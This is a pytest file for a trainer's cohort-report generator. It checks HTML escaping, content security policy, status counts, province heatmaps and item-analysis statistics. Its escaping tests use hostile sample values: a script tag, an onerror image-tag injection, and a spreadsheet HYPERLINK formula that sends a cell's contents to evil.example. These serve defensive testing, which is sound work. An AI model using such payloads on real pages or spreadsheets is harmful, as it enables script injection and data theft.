"""The cohort report's page, rendered from its Jinja2 template: escaped, counted, self-contained."""

import html
from html.parser import HTMLParser

import pandas as pd
import pytest

from ocopkit.i18n import _
from ocopkit.trainer import export, report

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"bấm vào đây")'
REASON = 'lỗi </td></tr></table><img src=x onerror="alert(2)">'
CSP = (
    '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; img-src data:; '
    "style-src 'unsafe-inline'\">"
)
# Every element the report may hold: anything else came from a participant's text.
ELEMENTS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "h1",
    "h2",
    "h3",
    "p",
    "details",
    "summary",
    "img",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}


def grade(participant_id, status, score="", reason="", province="Hà Nội", assignment="topic08"):
    """One row of ``export.grade_rows``."""
    return {
        "participant_id": participant_id,
        "name": participant_id,
        "province": province,
        "organisation_type": "HTX",
        "assignment": assignment,
        "score": score,
        "max_score": "10",
        "status": status,
        "reason": reason,
    }


def page_of(rows, items=None, title="Báo cáo"):
    grades = pd.DataFrame(rows, columns=export.COLUMNS)
    items = pd.DataFrame(items or [], columns=export.ITEM_COLUMNS)
    return report.build_report(grades, items, title)


class Elements(HTMLParser):
    """The page's elements with their attributes, and the text of each table cell."""

    def __init__(self):
        super().__init__()
        self.tags, self.cells, self._cell = [], [], None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "td":
            self._cell = ""

    def handle_endtag(self, tag):
        if tag == "td":
            self.cells.append(self._cell)
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell += data


def parsed(page):
    parser = Elements()
    parser.feed(page)
    return parser


@pytest.fixture
def hostile():
    return page_of(
        [
            grade(SCRIPT, "failed", reason=REASON, province=FORMULA),
            grade(FORMULA, "ungraded", reason=SCRIPT),
            grade("lan", "graded", score="8"),
            grade(f"{SCRIPT}-2", "missing", province=REASON),
        ],
        title=SCRIPT,
    )


class TestEscaping:
    def test_participants_text_adds_no_element_or_attribute(self, hostile):
        elements = parsed(hostile)
        assert {tag for tag, _attrs in elements.tags} <= ELEMENTS
        assert not [attrs for _tag, attrs in elements.tags if any(name.startswith("on") for name in attrs)]
        assert "<script" not in hostile.lower()

    def test_hostile_text_is_shown_as_written(self, hostile):
        cells = parsed(hostile).cells
        assert SCRIPT in cells and REASON in cells and FORMULA in cells
        assert f"<h1>{html.escape(SCRIPT)}</h1>" in hostile
        assert f"<title>{html.escape(SCRIPT)}</title>" in hostile

    def test_policy_is_in_the_head_unchanged(self, hostile):
        head = hostile.split("</head>")[0]
        assert head.count(CSP) == 1 and hostile.count("Content-Security-Policy") == 1

    def test_nothing_loads_from_outside(self, hostile):
        tags = parsed(hostile).tags
        sources = [attrs["src"] for tag, attrs in tags if tag == "img"]
        assert sources and all(src.startswith("data:image/png;base64,") for src in sources)
        assert not [attrs for _tag, attrs in tags if "href" in attrs]


class TestContent:
    def test_counts_every_status(self):
        page = html.unescape(
            page_of(
                [
                    grade("a", "graded", "10"),
                    grade("b", "failed", reason="hỏng"),
                    grade("c", "ungraded"),
                    grade("d", "missing"),
                ]
            )
        )
        assert f"{_('participants')}: 4" in page
        words = [report.status_words()[status] for status in report.STATUSES]
        assert " · ".join(f"{word}: {count}" for word, count in zip(words, (1, 0, 0, 1, 1, 1))) in page
        assert (
            "đã chấm: 1 · nộp muộn: 0 · đang chờ giảng viên chấm: 0 · chấm lỗi: 1 · chưa chấm: 1 · chưa nộp: 1" in page
        )
        assert f"<h2>{_('Failed gradings')} (1)</h2>" in page
        assert f"<h2>{_('Handed in, not graded yet')} (1)</h2>" in page

    def test_lists_in_their_own_section(self):
        page = page_of([grade("hong", "failed", reason="tệp hỏng"), grade("moi", "ungraded")])
        failed = page.split(f"<h2>{_('Failed gradings')}")[1].split("<h2>")[0]
        ungraded = page.split(f"<h2>{_('Handed in, not graded yet')}")[1]
        assert "<td>hong</td>" in failed and "<td>tệp hỏng</td>" in failed and "<td>moi</td>" not in failed
        assert "<td>moi</td>" in ungraded

    def test_says_so_when_nothing_to_list(self):
        page = page_of([grade("a", "graded", "10")])
        assert f"<p>{html.escape(_('None.'))}</p>" in page
        assert f"<p>{html.escape(_('No graded items yet.'))}</p>" in page
        assert _("Handed in, not graded yet") not in page

    def test_says_so_when_nothing_is_graded(self):
        page = page_of([grade("a", "missing")])
        assert f"<p>{html.escape(_('No graded submissions yet.'))}</p>" in page

    def test_no_empty_histograms_when_nothing_is_graded(self):
        page = page_of([grade("a", "missing"), grade("b", "failed", reason="hỏng"), grade("c", "ungraded")])
        distribution = page.split(f"<h2>{_('Score distribution per topic')}</h2>")[1].split("<h2>")[0]
        assert "<img" not in distribution
        assert "Chưa có điểm nào để vẽ biểu đồ" in html.unescape(distribution)
        assert page.count("data:image/png;base64,") == 1  # only completion, which is 0 % everywhere

    def teststatus_words_are_vietnamese(self):
        page = page_of([grade("a", "missing"), grade("b", "failed", reason="hỏng")])
        summary = page.split("<p>")[1].split("</p>")[0]
        for english in ("graded:", "late:", "failed:", "ungraded:", "missing:"):
            assert f" {english}" not in summary


class TestProvinces:
    def tables(self, monkeypatch, rows):
        drawn = {}

        def capture(table, title, unit):
            drawn[title] = table
            return report.Figure()

        monkeypatch.setattr(report, "_heatmap", capture)
        page_of(rows)
        return drawn

    def test_grouped_by_the_34_units_whatever_name_the_rows_carry(self, monkeypatch):
        rows = [
            grade("a", "graded", "10", province="Yên Bái"),
            grade("b", "graded", "5", province="Lào Cai"),
            grade("c", "missing", province="Sóc Trăng"),
            grade("d", "graded", "10", province="Cần Thơ"),
            grade("e", "graded", "10", province=""),
        ]
        completion = self.tables(monkeypatch, rows)[_("Completion (%)")]
        assert sorted(completion.index) == sorted(["Lào Cai", "Cần Thơ", _("(unknown)")])
        assert completion.loc["Cần Thơ", "topic08"] == 50
        mean = self.tables(monkeypatch, rows)[_("Mean score (% of maximum)")]
        assert mean.loc["Lào Cai", "topic08"] == 75

    def test_the_former_name_is_listed_beside_the_current_unit(self):
        row = dict(grade("hong", "failed", reason="tệp hỏng", province="Lào Cai"), former_province="Yên Bái")
        grades = pd.DataFrame([row], columns=export.COLUMNS)
        page = report.build_report(grades, pd.DataFrame([], columns=export.ITEM_COLUMNS), "Báo cáo")
        failed = page.split(f"<h2>{_('Failed gradings')}")[1].split("<h2>")[0]
        assert f"<th>{_('Former province')}</th>" in failed
        assert "<td>Lào Cai</td><td>Yên Bái</td>" in failed

    def test_one_chart_per_section_with_data(self):
        items = [
            {
                "participant_id": "a",
                "province": "Hà Nội",
                "organisation_type": "HTX",
                "assignment": "topic08",
                "notebook": "topic08",
                "cell": "c1",
                "cell_type": "code",
                "score": 1,
                "max_score": 1,
                "passed": 1,
            }
        ]
        page = page_of([grade("a", "graded", "10")], items=items)
        # Completion, mean and distribution; the items are a table, not a chart of a hundred bars.
        assert page.count("data:image/png;base64,") == 3
        assert "<h3>" in page and "<td>c1</td>" in page


COHORT = tuple(grade(f"hv{n:04d}", "graded", "7") for n in range(1200))


class TestNumbers:
    def test_vietnamese_separators(self):
        page = page_of(list(COHORT))
        assert f"{_('participants')}: 1.200" in page and "đã chấm: 1.200" in page

    def test_english_separators(self, english):
        page = page_of(list(COHORT))
        assert "participants: 1,200" in page and "graded: 1,200" in page


def item(participant, cell, passed, assignment="topic08"):
    """One row of ``export.item_rows``: a check worth one point, passed or not."""
    return {
        "participant_id": participant,
        "province": "Hà Nội",
        "organisation_type": "HTX",
        "assignment": assignment,
        "notebook": assignment,
        "cell": cell,
        "cell_type": "code",
        "score": passed,
        "max_score": 1,
        "passed": passed,
    }


class TestWhatATrainerReads:
    """Topic names, numbers in the heatmaps, who has not handed in, and which checks work."""

    TITLES = {"topic08": "Chủ đề 8. Bộ tiêu chí OCOP và cách xếp hạng sao"}

    def test_topics_by_name_and_the_missing_list_with_contacts(self):
        rows = [
            grade("an", "graded", "10"),
            dict(grade("binh", "missing"), name="Trần Bình", organisation_type="cooperative", email="binh@htx.vn"),
        ]
        grades = pd.DataFrame(rows, columns=[*export.COLUMNS, "email"])
        page = report.build_report(grades, pd.DataFrame([], columns=export.ITEM_COLUMNS), "Báo cáo", titles=self.TITLES)
        assert "Chủ đề 8. Bộ tiêu chí OCOP và cách xếp hạng sao" in page and ">topic08<" not in page
        missing = page.split(f"<h2>{_('Not handed in')}</h2>")[1]
        assert "<summary>Chủ đề 8. Bộ tiêu chí OCOP và cách xếp hạng sao (1)</summary>" in missing
        assert "<td>Trần Bình</td>" in missing and "<td>binh@htx.vn</td>" in missing
        assert f"<th>{_('E-mail')}</th>" in missing

    def test_per_province_table(self):
        rows = [grade("a", "graded", "10", province="Yên Bái"), grade("b", "missing", province="Lào Cai")]
        page = page_of(rows)
        provinces = page.split(f"<h2>{_('Provinces')}</h2>")[1].split("<h2>")[0]
        assert '<td>Lào Cai</td><td class="num">2</td><td class="num">50 %</td><td class="num">100 %</td>' in provinces

    def test_images_say_what_they_show(self):
        page = page_of([grade("a", "graded", "10")])
        assert 'alt=""' not in page and page.count('alt="') == 3

    def test_heatmap_cells_carry_their_value(self, monkeypatch):
        written = []
        original = report.Figure.subplots

        def spy(figure, *args, **kwargs):
            axes = original(figure, *args, **kwargs)
            real_text = axes.text

            def text(x, y, value, **options):
                written.append(value)
                return real_text(x, y, value, **options)

            axes.text = text
            return axes

        monkeypatch.setattr(report.Figure, "subplots", spy)
        page_of([grade("a", "graded", "10"), grade("b", "graded", "5")])
        assert "100" in written and "75" in written  # completion 100 %, mean of 100 % and 50 %

    def test_items_sorted_hardest_first_with_discrimination_and_flags(self):
        # 20 participants: "kho" passed by the 5 strongest only; "de" by all; "ngau" unrelated to the rest.
        items = []
        for n in range(20):
            who = f"p{n:02d}"
            strong = n < 5
            items += [item(who, "kho", int(strong)), item(who, "de", 1), item(who, "vua", int(n < 12))]
            items.append(item(who, "ngau", int(n % 2 == 0)))
        grades = [grade(f"p{n:02d}", "graded", "10") for n in range(20)]
        page = report.build_report(
            pd.DataFrame(grades, columns=export.COLUMNS),
            pd.DataFrame(items, columns=export.ITEM_COLUMNS),
            "Báo cáo",
            titles=self.TITLES,
            descriptions={("topic08", "kho"): "số điểm cần thêm"},
        )
        section = page.split(f"<h2>{_('Item difficulty')}</h2>")[1].split("<h2>")[0]
        order = [cell for cell in ("kho", "vua", "ngau", "de") if f"<td>{cell}</td>" in section]
        assert order == ["kho", "vua", "ngau", "de"]
        assert section.index("<td>kho</td>") < section.index("<td>vua</td>") < section.index("<td>de</td>")
        assert "<td>số điểm cần thêm</td>" in section
        assert _("everyone scored the same: tells nothing") in html.unescape(section)
        assert _("does not discriminate: review the check") in html.unescape(section)
        assert "α = " in section


class TestItemAnalysis:
    def test_alpha_of_identical_items_is_one_and_of_unrelated_items_is_low(self):
        from ocopkit.trainer import item_analysis

        same = pd.DataFrame({"a": [1, 1, 0, 0, 1], "b": [1, 1, 0, 0, 1]})
        assert item_analysis.cronbach_alpha(same) == pytest.approx(1)
        unrelated = pd.DataFrame({"a": [1, 0, 1, 0], "b": [1, 1, 0, 0]})  # uncorrelated
        assert item_analysis.cronbach_alpha(unrelated) == pytest.approx(0)

    def test_kr20_for_pass_fail_items(self):
        from ocopkit.trainer import item_analysis

        matrix = pd.DataFrame({"a": [1, 1, 1, 0, 0], "b": [1, 1, 0, 0, 0], "c": [1, 0, 1, 1, 0]})
        p = matrix.mean()
        total = matrix.sum(axis=1).var(ddof=1)
        # KR-20 with the sample variance of the totals and p·q of each item scaled to the same ddof.
        kr20 = 3 / 2 * (1 - (p * (1 - p) * len(matrix) / (len(matrix) - 1)).sum() / total)
        assert item_analysis.cronbach_alpha(matrix) == pytest.approx(kr20)

    def test_discrimination_is_the_corrected_item_total_correlation(self):
        from ocopkit.trainer import item_analysis

        matrix = pd.DataFrame({"a": [1, 1, 0, 0], "b": [1, 1, 0, 1], "c": [1, 0, 0, 0]})
        expected = matrix["a"].corr(matrix["b"] + matrix["c"])
        assert item_analysis.discrimination(matrix)["a"] == pytest.approx(expected)
